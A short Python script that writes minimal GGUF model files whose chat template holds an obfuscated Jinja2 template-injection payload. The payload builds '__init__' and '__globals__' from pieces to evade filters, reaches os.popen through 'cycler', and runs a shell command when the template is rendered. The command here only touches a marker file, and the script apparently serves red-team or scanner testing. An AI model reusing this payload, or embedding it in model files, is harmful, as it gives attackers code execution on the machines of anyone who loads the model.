import struct, sys
def gguf(template):
    kv = b""
    def s(x): x = x.encode(); return struct.pack("<Q", len(x)) + x
    kv += s("general.architecture") + struct.pack("<I", 8) + s("llama")
    kv += s("tokenizer.chat_template") + struct.pack("<I", 8) + s(template)
    return b"GGUF" + struct.pack("<IQQ", 3, 0, 2) + kv
TEMPLATES = {
 "gguf_setflow": "{% set u = '_' %}{% set d = u ~ u %}{% set k = d ~ 'init' ~ d %}{% set g = d ~ 'globals' ~ d %}"
                 "{% set m = 'o' ~ 's' %}{% set p = 'po' ~ 'pen' %}{% set c = cycler %}"
                 "{{ c[k][g][m][p]('touch /tmp/rt15/pwned_gguf_setflow')['read']() }}"
                 "{% for message in messages %}{{ message['content'] }}{% endfor %}",
}
for name, t in TEMPLATES.items():
    open(f"fn_{name}.gguf", "wb").write(gguf(t))
